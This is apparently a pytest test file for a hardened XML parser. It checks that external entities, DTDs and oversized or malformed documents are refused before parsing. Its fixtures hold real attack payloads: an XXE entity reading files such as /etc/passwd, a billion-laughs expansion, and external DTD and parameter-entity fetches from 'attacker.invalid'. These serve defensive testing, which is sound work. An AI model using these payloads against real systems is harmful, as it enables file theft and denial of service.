"""Hardened parsing: hostile constructs are refused before libxml2 sees them, and nothing is ever resolved."""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from bods import xmlsafety
from bods.errors import BodHostile, BodSyntaxError, BodTooLarge

DOCUMENT = b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- a comment -->\n<root><child>text</child></root>'


@pytest.fixture
def libxml2_must_not_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """Fail the test if the document ever reaches the XML parser."""

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("the document reached libxml2")

    monkeypatch.setattr(xmlsafety.etree, "fromstring", refuse)


def xxe_reading(path: Path) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE root [<!ENTITY secret SYSTEM "file://{path}">]>\n'
        "<root><child>&secret;</child></root>"
    ).encode()


def test_a_plain_document_parses() -> None:
    assert xmlsafety.parse_xml(DOCUMENT).findtext("child") == "text"


@pytest.mark.usefixtures("libxml2_must_not_run")
def test_an_external_entity_is_refused_before_parsing(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    with pytest.raises(BodHostile) as refused:
        xmlsafety.parse_xml(xxe_reading(secret))
    assert "TOP-SECRET" not in refused.value.reason


def test_etc_passwd_is_never_read() -> None:
    with pytest.raises(BodHostile) as refused:
        xmlsafety.parse_xml(xxe_reading(Path("/etc/passwd")))
    assert "root:" not in refused.value.reason


def test_the_parser_itself_resolves_no_entities_even_if_the_scan_were_bypassed(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    root = etree.fromstring(xxe_reading(secret), xmlsafety.new_parser())
    assert b"TOP-SECRET" not in etree.tostring(root)


@pytest.mark.usefixtures("libxml2_must_not_run")
@pytest.mark.parametrize(
    "document",
    [
        b'<!DOCTYPE root SYSTEM "http://attacker.invalid/x.dtd"><root/>',
        b'<!DOCTYPE root [<!ENTITY a "b"><!ENTITY c "&a;&a;&a;&a;">]><root>&c;</root>',
        b'<!DOCTYPE root [<!ENTITY % remote SYSTEM "http://attacker.invalid/e.dtd"> %remote;]><root/>',
        b'<?xml version="1.0"?><!-- c --><?pi x?>\n<!DOCTYPE root><root/>',
        b"\xef\xbb\xbf  <!DOCTYPE root><root/>",
    ],
    ids=["external-dtd", "billion-laughs", "parameter-entity", "after-comment-and-pi", "after-bom"],
)
def test_dtd_markup_in_the_prolog_is_hostile(document: bytes) -> None:
    with pytest.raises(BodHostile):
        xmlsafety.parse_xml(document)


def test_a_utf16_document_type_declaration_is_hostile_too() -> None:
    document = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE root SYSTEM "x.dtd"><root/>'.encode("utf-16")
    with pytest.raises(BodHostile):
        xmlsafety.parse_xml(document)


def test_a_doctype_inside_the_root_element_is_merely_malformed() -> None:
    with pytest.raises(BodSyntaxError):
        xmlsafety.parse_xml(b"<root><!DOCTYPE x></root>")


def test_documents_over_the_size_limit_are_refused_before_parsing() -> None:
    with pytest.raises(BodTooLarge):
        xmlsafety.parse_xml(b"<root>" + b" " * 200 + b"</root>", max_bytes=100)


def test_the_default_size_limit_is_one_mebibyte() -> None:
    big = b"<root>" + b"x" * 1_048_576 + b"</root>"
    with pytest.raises(BodTooLarge):
        xmlsafety.parse_xml(big)


@pytest.mark.parametrize("document", [b"<root><a></root>", b"not xml at all", b"", b"   \n"])
def test_malformed_input_is_a_syntax_error(document: bytes) -> None:
    with pytest.raises(BodSyntaxError):
        xmlsafety.parse_xml(document)


def test_a_leading_byte_order_mark_is_tolerated() -> None:
    assert xmlsafety.parse_xml(b"\xef\xbb\xbf" + DOCUMENT).tag == "root"


def test_stray_byte_order_marks_between_elements_can_be_stripped() -> None:
    root = xmlsafety.parse_xml("<root>\ufeff<child>text</child>\ufeff</root>".encode())
    assert xmlsafety.strip_stray_boms(root)
    assert etree.tostring(root) == b"<root><child>text</child></root>"


def test_each_thread_reuses_its_parser() -> None:
    assert xmlsafety.parser() is xmlsafety.parser()
